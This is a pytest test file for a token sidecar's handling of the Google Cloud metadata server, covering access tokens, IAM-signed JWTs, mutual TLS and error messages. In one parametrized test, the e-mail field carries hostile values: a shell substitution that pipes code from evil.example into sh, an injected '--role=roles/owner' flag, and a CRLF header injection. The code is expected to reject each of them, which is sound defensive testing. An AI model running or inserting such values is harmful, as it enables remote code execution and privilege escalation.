"""sidecar.tokens.grants.metadata, against the stand-in's metadata server: whose it is, access tokens, and mutual TLS"""

from __future__ import annotations

import asyncio
import json

import pytest

from sidecar.config.targets import TokenKind
from sidecar.emulator.app import Emulator
from sidecar.errors import Reason, SidecarError
from sidecar.runtime.clock import SystemClock
from sidecar.tokens.fetch.source import GoogleSource
from sidecar.tokens.fetch.threads import FetchThreads
from sidecar.tokens.grants.iam_credentials import IamCredentials
from sidecar.tokens.grants.metadata import MetadataGrant
from sidecar.tokens.token import TokenKey, read_claims
from tests.support.named_source import NamedSource
from tests.support.raw_endpoint import RawEndpoint, http, jwt

AUDIENCE = "https://svc.example"
SCOPES = "https://www.googleapis.com/auth/bigquery https://www.googleapis.com/auth/pubsub"
ID = TokenKey(NamedSource("m"), AUDIENCE)
ACCESS = TokenKey(NamedSource("m"), SCOPES, TokenKind.ACCESS)
SIGNED = TokenKey(NamedSource("m"), AUDIENCE, TokenKind.SELF_SIGNED_JWT)
CREATOR = "roles/iam.serviceAccountTokenCreator"


def source(grant: MetadataGrant) -> GoogleSource:
    return GoogleSource("test", grant, SystemClock(asyncio.get_running_loop()), FetchThreads("m"), seconds=60)


def grant(google: Emulator, **environ: str) -> MetadataGrant:
    return MetadataGrant({**google.environment(), **environ}, iam=IamCredentials(google.iam_url))


async def test_an_access_token_has_the_scopes_that_were_asked_for(google: Emulator) -> None:
    """Where the metadata server heeds them, as on Cloud Run; its own account is who calls."""
    token = await source(grant(google)).mint(ACCESS)
    issued = google.principals.introspect(token.bearer.decode().split()[1])
    assert issued is not None
    assert issued.member == f"serviceAccount:{google.metadata.email}"
    assert set(issued.scopes) == set(SCOPES.split())


async def test_a_self_signed_jwt_is_signed_by_iam(google: Emulator) -> None:
    """The metadata server has no key: the account asks IAM to sign as itself; its e-mail is asked for once."""
    email = google.metadata.email
    google.principals.grant(f"serviceAccount:{email}", CREATOR, on=str(email))
    it = source(grant(google))
    for _ in range(2):
        claims = read_claims((await it.mint(SIGNED)).bearer.decode().split()[1]) or {}
        assert (claims["iss"], claims["aud"]) == (email, AUDIENCE)
    assert google.metadata.counts["/computeMetadata/v1/instance/service-accounts/default/email"] == 1


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b"my-project.svc.id.goog", id="gke-pool"),
        pytest.param(b"a@" + b"b" * 400, id="too-long"),
        pytest.param(b"a@b\r\nX: y", id="unprintable"),
        pytest.param(b"", id="empty"),
        pytest.param(b"$(curl evil.example|sh)@x", id="shell"),
        pytest.param(b"a@b --role=roles/owner", id="option"),
        pytest.param(b"--project=x@y", id="like-an-option"),
        pytest.param("a\u202e@b".encode(), id="turned-round"),
    ],
)
async def test_an_account_without_an_email_is_none(raw: RawEndpoint, body: bytes) -> None:
    """On GKE without a Google service account it is the name of the pool: what to bind is said."""
    raw.behaviour = http(200, body, content_type="text/plain")
    it = source(MetadataGrant({"GCE_METADATA_HOST": raw.origin}))
    with pytest.raises(SidecarError, match=r"no_service_account: .*iam.gke.io/gcp-service-account"):
        await it.mint(SIGNED)


@pytest.mark.parametrize("flavor", ["", "google", "Google Cloud"])
@pytest.mark.parametrize("key", [ID, ACCESS, SIGNED], ids=["id", "access", "email"])
async def test_what_does_not_say_that_it_is_a_metadata_server_is_none(
    raw: RawEndpoint, key: TokenKey, flavor: str
) -> None:
    """Whatever answers plain http in its place: nothing of it is used."""
    token = jwt(AUDIENCE, issued=0, expires=3600)
    body = token if key is ID else json.dumps({"access_token": "ya29.x", "expires_in": 3600})
    body = "sa@p.iam.gserviceaccount.com" if key is SIGNED else body
    raw.behaviour = http(
        200, body.encode(), content_type="application/json", headers={"Metadata-Flavor": flavor}
    )
    it = source(MetadataGrant({"GCE_METADATA_HOST": raw.origin}))
    with pytest.raises(SidecarError, match=r"token_malformed: .*`Metadata-Flavor: Google`.*captive portal"):
        await it.mint(key)
    assert it.grant.known_email() is None


@pytest.mark.parametrize("key", [ID, ACCESS], ids=["id", "access"])
async def test_where_mutual_tls_is_wanted_google_auth_asks(
    google: Emulator, monkeypatch: pytest.MonkeyPatch, key: TokenKey
) -> None:
    """It has the certificates; without any, mode `default` asks over HTTP at the same address."""
    monkeypatch.setenv("GCE_METADATA_MTLS_MODE", "default")
    token = await source(grant(google, GCE_METADATA_MTLS_MODE="default")).mint(key)
    assert token.audience == key.audience
    assert google.metadata.endpoint.arrived == 1


@pytest.mark.parametrize("key", [ID, ACCESS], ids=["id", "access"])
async def test_strict_mutual_tls_never_falls_back(
    google: Emulator, monkeypatch: pytest.MonkeyPatch, key: TokenKey
) -> None:
    """Without certificates nobody is asked, and the error points at the environment."""
    monkeypatch.setenv("GCE_METADATA_MTLS_MODE", "strict")
    with pytest.raises(SidecarError, match=r"sent nothing.*GCE_\* environment variables") as caught:
        await source(grant(google, GCE_METADATA_MTLS_MODE="strict")).mint(key)
    assert caught.value.reason is Reason.CREDENTIAL_INVALID
    assert google.metadata.endpoint.arrived == 0


@pytest.mark.parametrize("key", [ID, ACCESS], ids=["id", "access"])
async def test_once_it_has_worked_nobody_is_asked_whether_this_is_google_cloud(
    google: Emulator, key: TokenKey
) -> None:
    """Before the first token that is the likeliest cause of a server that does not answer; afterwards it is none."""
    it = source(grant(google))
    await google.stop(google.metadata.app)
    with pytest.raises(SidecarError, match=r"Not on Google Cloud\?"):
        await it.mint(key)
    await google.start(google.metadata.app)
    await it.mint(key)
    await google.stop(google.metadata.app)
    with pytest.raises(SidecarError, match="It has answered this process before") as found:
        await it.mint(key)
    assert "Google Cloud?" not in found.value.detail
    assert "idtoken-sidecar renew" in found.value.detail
    assert "169.254.169.254" not in found.value.detail, "that is another machine's"
    assert (
        f"`curl --header 'Metadata-Flavor: Google' http://{google.metadata_address}/`" in found.value.detail
    )


async def test_an_account_that_was_taken_away_is_not_asked_to_be_attached(raw: RawEndpoint) -> None:
    """Before the first token there may never have been one; afterwards it was there."""
    it = source(MetadataGrant({"GCE_METADATA_HOST": raw.origin}))
    raw.behaviour = http(404)
    with pytest.raises(SidecarError, match="attach a service account"):
        await it.mint(ID)
    raw.behaviour = http(200, jwt(AUDIENCE, issued=0.0, expires=3600.0).encode())
    await it.mint(ID)
    raw.behaviour = http(404)
    with pytest.raises(SidecarError, match="does not know the default service account any more") as found:
        await it.mint(ID)
    assert found.value.reason is Reason.NO_SERVICE_ACCOUNT
